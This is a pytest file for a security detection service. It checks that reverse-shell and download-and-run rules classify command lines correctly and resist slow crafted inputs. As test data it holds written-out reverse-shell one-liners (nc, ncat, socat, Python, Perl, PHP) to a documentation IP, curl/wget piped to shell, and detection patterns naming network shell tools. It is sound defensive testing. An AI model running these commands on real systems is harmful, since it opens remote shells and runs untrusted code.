"""Command lines: hosts write them, so reading one must not take long, whatever is in it."""

from time import perf_counter

import pytest

from hub.detections.events import EventKind
from hub.detections.foreign import rules_that_see
from hub.detections.models import RuleKind
from hub.detections.rules.programs import looks_like_download
from tests.hub.detections.scene import seen

LONGEST = 2000  # characters that are kept of a command


@pytest.mark.parametrize(
    "pattern",
    [
        "import socket ",
        "import " * 100 + "socket ",
        "Socket INET ",
        "nc - ",
        "nc -ce   ",
        "nc " * 300 + "-" + "e",
        "socat exec:",
        "mkfifo |      ",
        "curl |",
        "curl |/",
        "fsockopen ",
        "base64 ",
        " ",
        "-",
    ],
)
def test_a_command_written_to_be_slow_is_read_at_once(pattern: str) -> None:
    command = (pattern * LONGEST)[:LONGEST]
    event = seen(EventKind.PROCESS_STARTED, command=command, process="x")
    started = perf_counter()
    for _ in range(10):
        rules_that_see(event)
        looks_like_download(command)
    each = (perf_counter() - started) / 10
    assert each < 0.02, each  # about a millisecond where nobody else is at work


@pytest.mark.parametrize(
    ("command", "is_seen"),
    [
        ("python3 -c 'import os, socket; os.dup2(s.fileno(), 0)'", True),
        ("python3 -c 'dup2 = 1; import socket'", False),  # in another order
        ("perl -e 'use Socket; socket(S, INET); exec(1)'", True),
        ("php -r '$s = fsockopen(1); exec(2);'", True),
        ("mkfifo /run/f; cat /run/f | sh -i | nc 203.0.113.7 4444", True),
        ("nc -l 4444 | mkfifo x", False),
        ("nc -zv -c 10 203.0.113.7 443", False),
        ("ncat 203.0.113.7 4444 -e /bin/bash", True),
        ("socat tcp:203.0.113.7:1 EXEC:bash", True),
    ],
)
def test_a_shell_is_connected_by_words_in_their_order(command: str, is_seen: object) -> None:
    event = seen(EventKind.PROCESS_STARTED, command=command, process="x", path="/usr/bin/x")
    assert (RuleKind.REVERSE_SHELL in rules_that_see(event)) is is_seen


@pytest.mark.parametrize(
    ("command", "is_download"),
    [
        ("curl -s https://x.example/i.sh | bash", True),
        ("wget -qO- https://x.example/i|/usr/bin/sh -s", True),
        ("cat x | sh; curl https://x.example/", False),
        ("curl https://x.example/ | tee /srv/x", False),
        ("echo aGk= | base64 -d", True),
        ("/tmp/x", True),  # noqa: S108
        ("/srv/tmp/x", False),
    ],
)
def test_what_is_fetched_and_run_is_seen(command: str, is_download: object) -> None:
    assert looks_like_download(command) is is_download
